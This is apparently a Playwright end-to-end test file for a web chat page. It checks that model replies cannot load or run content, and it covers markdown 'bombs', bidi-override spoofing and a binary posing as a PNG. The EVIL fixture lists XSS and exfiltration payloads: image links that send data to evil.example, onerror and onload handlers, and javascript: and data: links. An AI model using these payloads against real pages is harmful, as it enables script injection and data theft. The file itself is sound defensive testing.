"""Too much, too odd, too full: the screen says what happened, keeps the draft, and nothing doubles or vanishes."""

import pytest

from tests.e2e.web.driving import ask, strip_facts

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(180), pytest.mark.xdist_group("web-chat")]


def scripted(page, provider, said, text="go", size=400):
    provider.says(said, size=size)
    page.locator("#model").select_option("scripted")
    return ask(page, text)


BOMBS = {
    "deep quotes": ">" * 5000 + " deep",
    "deep lists": "".join(" " * 2 * n + "* x\n" for n in range(200)),
    "emphasis": "*a_" * 4000,
    "brackets": "[" * 4000,
    "table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + ("|" + "b|" * 2000 + "\n") * 3,
    "formula": "$" + "{" * 3000 + "x" + "}" * 3000 + "$",
    "one word": "x" * 80_000,
    "lines": "line\n" * 6_000,
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_in_markdown_does_no_harm(page, provider, bomb):
    answer = scripted(page, provider, BOMBS[bomb] + "\n\nand an end.", size=2000)
    assert "and an end." in answer.text_content()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.locator("#text").fill("still here")
    assert page.locator("#text").input_value() == "still here"


EVIL = """![secret](https://evil.example/steal?q=A123456)
![x][1]
<img src="https://evil.example/a.png" onerror="document.title='owned'">
<script>document.title='owned'</script>
<svg onload="document.title='owned'"></svg>
<iframe src="https://evil.example"></iframe>
[click](javascript:document.title='owned')
[data](data:text/html,<script>document.title='owned'</script>)
[in here](/leave)
<https://evil.example/auto>
<style>body { background: url(https://evil.example/b) }</style>

[1]: https://evil.example/steal2
"""


def test_what_a_model_says_can_neither_load_nor_run(page, provider):
    """The page's watch fails the test when anything is asked of another origin."""
    answer = scripted(page, provider, EVIL)
    page.wait_for_timeout(300)
    assert page.title() != "owned"
    found = answer.evaluate("""one => ({
      loads: one.querySelectorAll('img, script, iframe, style, object, embed, link, video, audio, svg image').length,
      odd: [...one.querySelectorAll('.text a')].map((a) => a.getAttribute('href')).filter((to) => to && !/^https?:/.test(to)),
      handlers: [...one.querySelectorAll('*')].filter((each) => [...each.attributes].some((a) => a.name.startsWith('on'))).length,
    })""")
    assert found == {"loads": 0, "odd": [], "handlers": 0}
    assert all("evil.example" not in url for url in page.watch.requests)
    rel = answer.locator(".text a").evaluate_all("all => all.filter((a) => a.href).map((a) => a.rel)")
    assert all("noreferrer" in each for each in rel)


def test_signs_that_turn_text_around_are_shown(page, provider):
    answer = scripted(page, provider, "Pay to \u202eecnalaB\u202c now, and run `\u2066evil\u2069`.")
    shown = answer.locator(".text").text_content()
    assert "⟨U+202E⟩" in shown
    assert not set(shown) & set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


def test_signs_that_turn_text_around_are_shown_in_what_one_writes(page):
    """In the question, the preview and the list; what is copied or edited is what was written."""
    text = "Pay \u202eecnalaB\u202c of A123456(3)\u202e"
    strip_facts(page, text)
    ask(page, text)
    bubble = page.locator("article.user .text")
    assert bubble.text_content() == text
    signs = bubble.locator(".turning")
    assert signs.evaluate_all("all => all.map((one) => getComputedStyle(one, '::before').content)") == [
        f'"⟨U+{sign}⟩"' for sign in ("202E", "202C", "202E")
    ]
    assert signs.first.evaluate("one => getComputedStyle(one).unicodeBidi") == "isolate"
    assert "⟨U+202E⟩" in page.locator("#found a").first.inner_text()
    page.wait_for_function("() => document.title.includes('⟨U+202E⟩')")


def test_two_megabytes_pasted(page, provider):
    """The page stays alive, says what it will do with it, and keeps it when it cannot be sent."""
    provider.says("A long letter.")
    page.locator("#model").select_option("scripted")
    page.evaluate("""() => {
      const text = document.querySelector('#text');
      text.focus();
      text.setRangeText('A sentence with A123456(3) in it. '.repeat(62000), 0, 0, 'end');
      text.dispatchEvent(new InputEvent('input', { inputType: 'insertFromPaste', bubbles: true }));
    }""")
    page.locator("#strip .fact, #strip:has-text('Sampan')").first.wait_for(timeout=30_000)
    assert len(page.locator("#text").input_value()) > 2_000_000
    page.evaluate("document.querySelector('#send').click()")
    page.wait_for_function(
        "() => document.querySelector('article.assistant') || document.querySelector('#send').hidden === false",
        timeout=30_000,
    )
    page.wait_for_function("() => document.querySelector('#stop').hidden", timeout=60_000)
    said, kept = page.locator("article.user").count(), len(page.locator("#text").input_value())
    assert (said, kept > 2_000_000) in {(1, False), (0, True)}, "sent once, or still in the box"
    told = page.locator("article.assistant").text_content() if said else page.locator("#strip").inner_text()
    assert told.strip()


@pytest.mark.parametrize("button", ["Save", "Save and ask again"])
def test_an_edit_that_fails_says_so_and_stays(page, button):
    page.watch.expect("Failed to load|500")
    page.locator("#model").select_option("laptop")
    ask(page, "first wording")
    page.route("**/chat/edit/*", lambda route: route.fulfill(status=500, body="{}"))
    page.locator("article.user [data-act=edit]").click()
    page.locator(".editing textarea").fill("second wording")
    page.locator(".editing").get_by_role("button", name=button, exact=True).click()
    page.locator("#trouble", has_text="Something went wrong").wait_for()
    assert page.locator(".editing textarea").input_value() == "second wording"


def test_a_file_that_lies_about_its_type(page):
    """A program that calls itself a picture is not sent; the page says why."""
    elf = b"\x7fELF" + bytes(2000)
    page.locator("#file").set_input_files({"name": "holiday.png", "mimeType": "image/png", "buffer": elf})
    page.locator("#files .file", has_text="holiday.png").wait_for()
    page.locator("#model").select_option("cloud")
    page.locator("#strip").get_by_text("refused").or_(page.locator("#strip .bad")).first.wait_for()
    page.locator("#text").fill("what is on it?")
    answer = ask(page, "what is on it?")
    assert "Not sent." in answer.text_content() or "No answer." in answer.inner_text()


def test_several_files_at_once_all_go(page):
    both = [{"name": f"{n}.txt", "mimeType": "text/plain", "buffer": b"HKID A123456(3)"} for n in "ab"]
    page.locator("#file").set_input_files(both)
    page.locator("#files .file", has_text="b.txt").wait_for()
    page.locator("#text").fill("see both")
    ask(page, "see both")
    assert page.locator("article.user .file .title").all_text_contents() == ["a.txt", "b.txt"]


def test_files_tell_their_labels_before_they_are_sent(page):
    page.locator("#file").set_input_files(
        {"name": "letter.txt", "mimeType": "text/plain", "buffer": b"HKID A123456(3)"}
    )
    page.locator("#strip .tag", has_text="HKID").wait_for()
    page.locator("#files button").click()
    page.wait_for_function("() => !document.querySelector('#strip .tag')")
    assert page.locator("#files .file").count() == 0
